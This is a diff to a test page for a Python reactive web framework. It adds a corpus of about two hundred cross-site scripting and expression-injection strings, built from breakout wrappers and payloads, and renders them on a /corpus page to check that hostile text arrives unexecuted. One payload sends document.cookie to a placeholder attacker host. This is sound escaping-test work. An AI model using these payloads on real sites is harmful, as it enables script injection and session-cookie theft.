@@ -35,6 +35,7 @@ from faststate_asgi import (
     fragment,
     js,
 )
+from faststate_asgi.frames import expression
 
 POLICY = (
     "default-src 'none'; script-src 'self' 'unsafe-eval'; connect-src 'self'; img-src 'self' data:; base-uri 'none'"
@@ -51,6 +52,46 @@ HARD_TEXTS = (
     "data: x\n\nevent: datastar-patch-signals\ndata: signals {total: 666}\n\n",
 )
 """Texts that are code to somebody; each of them must arrive as it is."""
+_RUN = "window.hacked = 1"
+_SHELLS = (
+    "{}",
+    "'{}'",
+    "', x: ({}), y: '",
+    "'); {}; ('",
+    '"+({})+"',
+    "`${{{}}}`",
+    "${{{}}}",
+    "@post('/x', {{a: ({})}})",
+    "@docs({})",
+    "$count = ({})",
+    "$count; {}",
+    "\\'; {}; //",
+    "\\u0027; {}; //",
+    "&#39;; {}; &#39;",
+    "&quot;>{}",
+    "<script>{}</script>",
+    "</script><script>{}</script>",
+    "<img src=x onerror='{}'>",
+    "<svg onload={}>",
+    '"><p data-init="{}">',
+    "'><p data-on:click='{}'>",
+    "<!--{}-->",
+    "]]>{}",
+    "\n\nevent: datastar-patch-elements\ndata: elements <p data-init='{}'></p>\n\n",
+    "\u2028{}\u2029",
+)
+_CODES = (
+    _RUN,
+    "window.hacked=`1`",
+    "(()=>{window.hacked=1})()",
+    "Function('window.hacked=1')()",
+    "fetch('//evil.example/'+document.cookie)",
+    "constructor.constructor('window.hacked=1')()",
+    "el.ownerDocument.defaultView.hacked=1",
+    "@get('/there')",
+)
+CORPUS = tuple(shell.format(code) for shell in _SHELLS for code in _CODES)
+"""Two hundred texts that break out of whatever a careless page writes them into."""
 
 registry = StateRegistry()
 
@@ -170,6 +211,11 @@ class Odd(ReactiveState):
     def push(self, item: str) -> None:
         """Append in place."""
         self.items.append(item)
+
+    @event
+    def fill(self) -> None:
+        """Put every hostile text into the list."""
+        self.items = list(CORPUS)
 
     @event
     def clear(self) -> None:
@@ -427,6 +473,16 @@ async def answers(request: Request) -> Response:
     )
 
 
+async def corpus(request: Request) -> Response:
+    """Show every hostile text: as a seed of a signal, and as a value in an expression."""
+    state = await Odd.aget(request)
+    parts: list[object] = [Live(state)]
+    for index, text in enumerate(CORPUS):
+        parts.append(tag("output", id=f"seed-{index}", data_text=f"$items[{index}]"))
+        parts.append(tag("output", id=f"value-{index}", data_text=expression(text)))
+    return page(*parts, button("Fill", Odd.fill()), button("Back", Odd.push(CORPUS[2])))
+
+
 async def there(request: Request) -> Response:
     """Show with which query one came."""
     return HTMLResponse(f'<!doctype html><link rel="icon" href="data:,"><p>{escape(request.url.query)}</p>')
@@ -451,6 +507,7 @@ PAGES: Mapping[str, Callable[[Request], Awaitable[Response]]] = {
     "/odd": odd,
     "/twins": twins,
     "/answers": answers,
+    "/corpus": corpus,
     "/there": there,
     "/attack": attack,
     "/total": crowd,
